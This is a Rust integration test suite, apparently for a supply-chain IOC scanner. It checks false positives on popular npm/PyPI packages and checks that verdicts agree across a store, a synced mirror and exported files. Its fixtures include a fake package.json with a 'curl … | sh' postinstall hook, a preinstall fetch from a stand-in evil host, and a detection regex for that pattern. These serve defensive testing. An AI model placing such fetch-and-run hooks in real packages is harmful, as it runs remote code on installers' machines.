//! One verdict engine everywhere.
//!
//! - A false-positive corpus of real projects (`tests/data/scan/corpus/`: the 500 most-downloaded
//!   npm packages resolved by npm, 559 of the most-downloaded PyPI packages resolved by uv)
//!   scans clean against the whole shared OSV snapshot plus the starter set; fsevents 2.3.3,
//!   which npm keeps as an optional dependency, is not flagged by MAL-2023-462 (1.0.0–1.2.11).
//! - The same corpus with injected entries of every rule gives identical findings on the
//!   source store, on a `scioc sync` mirror of it (events and the knowledge document), and from
//!   the ToolTrust files exported from it, for the rules those files hold.

use crate::support::{PASSWORD, Scioc};
use base64::Engine as _;
use serde_json::{Value, json};
use sha2::{Digest, Sha256, Sha512};
use std::path::{Path, PathBuf};

const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/scan/corpus");
const STARTER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../data/candidates");

/// The snapshot and the starter set, as a new user's store would hold them.
fn snapshot_store(s: &Scioc) {
    s.ok(&["ingest", "osv", crate::osv_snapshot::snapshot().to_str().unwrap()], "");
    let starter: Vec<String> =
        std::fs::read_dir(STARTER).unwrap().map(|e| e.unwrap().path().to_string_lossy().into_owned()).collect();
    let files = s.dir.path().join("iocs");
    let mut args = vec!["candidates", "promote", "--files", files.to_str().unwrap()];
    args.extend(starter.iter().map(String::as_str));
    s.ok(&args, "");
}

fn scan(s: &Scioc, extra: &[&str], dir: &Path) -> (i32, Value) {
    let mut args = vec!["scan", "-r", "--format", "json"];
    args.extend(extra);
    args.push(dir.to_str().unwrap());
    let out = s.run(&args, "");
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("scan: {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code().unwrap(), v)
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            copy_tree(&e.path(), &to.join(e.file_name()));
        } else {
            std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
        }
    }
}

#[test]
fn the_false_positive_corpus_scans_clean_against_the_snapshot_and_starter_set() {
    let s = Scioc::new();
    snapshot_store(&s);
    let lock: Value =
        serde_json::from_slice(&std::fs::read(Path::new(CORPUS).join("npm-top500/package-lock.json")).unwrap())
            .unwrap();
    let top = lock["packages"][""]["dependencies"].as_object().unwrap().len();
    assert!(top >= 500, "{top} top-level npm dependencies");
    assert_eq!(lock["packages"]["node_modules/fsevents"]["version"], "2.3.3", "npm keeps fsevents as optional");
    let (code, v) = scan(&s, &[], Path::new(CORPUS));
    assert_eq!(v["findings"], json!([]), "{:#}", v["findings"]);
    assert_eq!(code, 0, "{v:#}");
    assert!(v["errors"].as_array().unwrap().is_empty(), "{:#}", v["errors"]);
    let packages = v["packages"].as_u64().unwrap();
    assert!(packages >= 959 + 2000, "{packages} packages read from the corpus");
}

/// What a finding is, for comparing two scans: everything but the file's absolute path.
fn findings(v: &Value, root: &Path) -> Vec<Value> {
    let mut out: Vec<Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let mut f = f.clone();
            let file = PathBuf::from(f["file"].as_str().unwrap());
            f["file"] = json!(file.strip_prefix(root).unwrap_or(&file).to_string_lossy());
            f.as_object_mut().unwrap().remove("event");
            f
        })
        .collect();
    out.sort_by_key(|f| f.to_string());
    out
}

/// Candidates of every kind the engine enforces.
fn candidates(sha256: &str) -> Value {
    let c = |eco: &str, kind: &str, value: &str, m: Option<&str>, promote: &str| {
        let mut v = json!({"ecosystem": eco, "ioc_type": kind, "value": value, "confidence": "high",
            "reason": "parity test", "source": format!("https://example.org/advisory/{kind}"), "first_seen": "2026-11-30",
            "suggested_action": "block", "promote_to": promote});
        if let Some(m) = m {
            v["match"] = json!(m);
        }
        v
    };
    let mut blacklist = c("npm", "package_name", "corp-internal-ui", None, "blacklist");
    blacklist["blacklist_id"] = json!("CORP-INTERNAL-UI-2026");
    blacklist["affected_versions"] = json!([">=2.0.0 <2.3.0"]);
    blacklist["action"] = json!("BLOCK");
    blacklist["severity"] = json!("HIGH");
    json!([
        blacklist,
        c("npm", "domain", "evil-cdn.example", Some("contains"), "npm_iocs"),
        c("npm", "package_name", "totally-evil-pkg", None, "npm_iocs"),
        c("PyPI", "sha256", sha256, None, "npm_iocs"),
        c("npm", "script_pattern", r"curl\s+-s\s+\S+\s*\|\s*sh", Some("regex"), "npm_iocs"),
    ])
}

/// Copies the corpus and injects one entry per rule into it.
fn injected_project(root: &Path, sri: &str, sha256: &str) {
    copy_tree(Path::new(CORPUS), root);
    let lock_path = root.join("npm-top500/package-lock.json");
    let mut lock: Value = serde_json::from_slice(&std::fs::read(&lock_path).unwrap()).unwrap();
    let packages = lock["packages"].as_object_mut().unwrap();
    for (path, version, integrity) in [
        ("node_modules/corp-internal-ui", "2.2.0", None), // curated range
        ("node_modules/@fms-common-biz/basic-react", "99.9.1", None), // OSV dependency confusion
        ("node_modules/chokidar/node_modules/@fms-common-biz/basic-react", "1.0.0", None), // below it: clean
        ("node_modules/wekan", "9.9.9", None),            // OSV version
        ("node_modules/rollup/node_modules/fsevents", "1.2.10", None), // inside MAL-2023-462
        ("node_modules/innocent-looking", "1.0.0", Some(sri)), // HASH
        ("node_modules/totally-evil-pkg", "1.0.0", None), // package_name indicator
    ] {
        let mut e = json!({"version": version, "license": "MIT"});
        if let Some(i) = integrity {
            e["integrity"] = json!(i);
        }
        packages.insert(path.to_owned(), e);
    }
    std::fs::write(&lock_path, serde_json::to_vec_pretty(&lock).unwrap()).unwrap();
    // A manifest whose lifecycle scripts reach an OSV domain indicator, a curated one, and the
    // curated regex.
    std::fs::create_dir_all(root.join("app")).unwrap();
    std::fs::write(
        root.join("app/package.json"),
        serde_json::to_vec_pretty(&json!({"name": "app", "version": "1.0.0", "scripts": {
            "preinstall": "node -e \"require('https').get('https://x.evil-cdn.example/a')\"",
            "postinstall": "curl -s https://cryptopriceoffer.com/p | sh"}}))
        .unwrap(),
    )
    .unwrap();
    let req = root.join("pypi-top500/requirements-01.txt");
    let mut text = std::fs::read_to_string(&req).unwrap();
    text.push_str(&format!("midi-melady-extraction==94.6\nsneaky==1.0.0 \\\n    --hash=sha256:{sha256}\n"));
    std::fs::write(&req, text).unwrap();
}

#[test]
fn source_mirror_and_tooltrust_files_give_identical_verdicts() {
    let source = Scioc::new();
    snapshot_store(&source);
    // A malicious archive (HASH) and curated candidates of every kind.
    let tgz = crate::support::npm_tgz("evil-hash", "6.6.6");
    let sample = source.dir.path().join("evil-hash-6.6.6.tgz");
    std::fs::write(&sample, &tgz).unwrap();
    source.ok(&["ingest", "sample", "--force", sample.to_str().unwrap()], "");
    let sri = format!("sha512-{}", base64::engine::general_purpose::STANDARD.encode(Sha512::digest(&tgz)));
    let sha256 = format!("{:x}", Sha256::digest(b"a PyPI wheel someone reported"));
    let cands = source.dir.path().join("parity.json");
    std::fs::write(&cands, serde_json::to_vec_pretty(&candidates(&sha256)).unwrap()).unwrap();
    let files = source.dir.path().join("iocs");
    source.ok(&["candidates", "promote", cands.to_str().unwrap(), "--files", files.to_str().unwrap()], "");

    let project = source.dir.path().join("project");
    injected_project(&project, &sri, &sha256);
    let (code, on_source) = scan(&source, &[], &project);
    assert_eq!(code, 1);
    let want = findings(&on_source, &project);
    let rules = |rule: &str| want.iter().filter(|f| f["rule"] == rule).count();
    assert!(rules("AS-008") >= 4 && rules("HASH") == 1 && rules("AS-016") >= 5, "{want:#?}");
    let flagged: Vec<String> = want
        .iter()
        .map(|f| format!("{}@{}", f["package"].as_str().unwrap(), f["version"].as_str().unwrap_or("")))
        .collect();
    for p in [
        "corp-internal-ui@2.2.0",
        "@fms-common-biz/basic-react@99.9.1",
        "wekan@9.9.9",
        "fsevents@1.2.10",
        "innocent-looking@1.0.0",
        "totally-evil-pkg@1.0.0",
        "midi-melady-extraction@94.6",
        "sneaky@1.0.0",
        "app@1.0.0",
    ] {
        assert!(flagged.contains(&p.to_owned()), "{p} not found: {flagged:?}");
    }
    assert!(!flagged.contains(&"@fms-common-biz/basic-react@1.0.0".to_owned()), "below a dependency-confusion range");
    assert!(!flagged.contains(&"fsevents@2.3.3".to_owned()));

    // A mirror through `scioc sync`: same findings.
    source.add_user("mirror", "reader");
    let server = source.serve(&["--tls-self-signed"]);
    let ca = server.ca.clone().unwrap();
    let mirror = Scioc::new();
    let sync = || {
        let out = mirror
            .cmd()
            .args(["sync", "--from", &server.url, "--user", "mirror", "--ca-cert", ca.to_str().unwrap()])
            .env("SCIOC_PASSWORD", PASSWORD)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "{err}");
        err
    };
    let err = sync();
    assert!(err.contains("knowledge mirrored:"), "{err}");
    let (code, on_mirror) = scan(&mirror, &[], &project);
    assert_eq!(code, 1);
    assert_eq!(findings(&on_mirror, &project), want, "the mirror scans exactly as its source");
    // A second sync finds the knowledge unchanged (304) and keeps it.
    let err = sync();
    assert!(err.contains("knowledge unchanged"), "{err}");
    assert_eq!(findings(&scan(&mirror, &[], &project).1, &project), want);
    drop(server);

    // ToolTrust files exported from the source, with no store: the same findings for the rules
    // the files hold (curated blacklist rules and npm indicators that are not regexes).
    let exported = source.dir.path().join("tooltrust");
    source.ok(&["export", "tooltrust", "--out", exported.to_str().unwrap()], "");
    let bare = Scioc::new();
    let bl = exported.join("blacklist.json");
    let iocs = exported.join("npm_iocs.json");
    let (_, from_files) =
        scan(&bare, &["--blacklist", bl.to_str().unwrap(), "--iocs", iocs.to_str().unwrap()], &project);
    assert!(!bare.data_dir().exists(), "a scan of ToolTrust files creates no store");
    let in_files = |f: &Value| {
        let curated_rule = f["rule"] == "AS-008" && f["evidence"].as_str().unwrap().contains("is blacklisted");
        let npm_ioc = f["rule"] == "AS-016"
            && f["ecosystem"] == "npm"
            && !f["reference"].as_str().unwrap().starts_with("MAL-")
            && !f["evidence"].as_str().unwrap().contains("(regex)");
        curated_rule || npm_ioc
    };
    let expected: Vec<Value> = want.iter().filter(|f| in_files(f)).cloned().collect();
    assert!(expected.len() >= 3, "{expected:#?}");
    assert_eq!(findings(&from_files, &project), expected, "ToolTrust files give the same verdicts for their rules");
}

#[tokio::test]
async fn the_knowledge_route_needs_a_user_and_answers_304_when_unchanged() {
    let s = Scioc::new();
    let cands = s.dir.path().join("c.json");
    std::fs::write(&cands, serde_json::to_vec(&candidates(&"cd".repeat(32))).unwrap()).unwrap();
    s.ok(
        &["candidates", "promote", cands.to_str().unwrap(), "--files", s.dir.path().join("iocs").to_str().unwrap()],
        "",
    );
    s.add_user("reader", "reader");
    let server = s.serve(&[]);
    let anon = server.client();
    let path = "/api/scioc/v1/knowledge";
    assert_eq!(anon.get(path).await.status(), 401);
    let c = anon.as_user("reader");
    let r = c.get(path).await;
    assert_eq!(r.status(), 200);
    let etag = r.headers()["etag"].to_str().unwrap().to_owned();
    let doc: Value = r.json().await.unwrap();
    assert_eq!(doc["format"], "scioc-knowledge/1");
    assert_eq!(doc["rules"][0]["id"], "CORP-INTERNAL-UI-2026");
    let kinds: Vec<&str> = doc["indicators"].as_array().unwrap().iter().map(|i| i["kind"].as_str().unwrap()).collect();
    for k in ["domain", "package_name", "sha256", "script_pattern"] {
        assert!(kinds.contains(&k), "{k} in {kinds:?}");
    }
    let again = c.request(reqwest::Method::GET, path).header("if-none-match", &etag).send().await.unwrap();
    assert_eq!(again.status(), 304);
    // A change of what curation holds changes the document and its ETag.
    let more = s.dir.path().join("more.json");
    let extra = json!([{"ecosystem": "npm", "ioc_type": "package_name", "value": "newly-evil", "confidence": "high",
        "reason": "r", "source": "https://example.org/x", "first_seen": "2026-11-30", "suggested_action": "block",
        "promote_to": "npm_iocs"}]);
    std::fs::write(&more, serde_json::to_vec(&extra).unwrap()).unwrap();
    s.ok(
        &["candidates", "promote", more.to_str().unwrap(), "--files", s.dir.path().join("iocs").to_str().unwrap()],
        "",
    );
    let changed = c.request(reqwest::Method::GET, path).header("if-none-match", &etag).send().await.unwrap();
    assert_eq!(changed.status(), 200);
    assert_ne!(changed.headers()["etag"].to_str().unwrap(), etag);
}
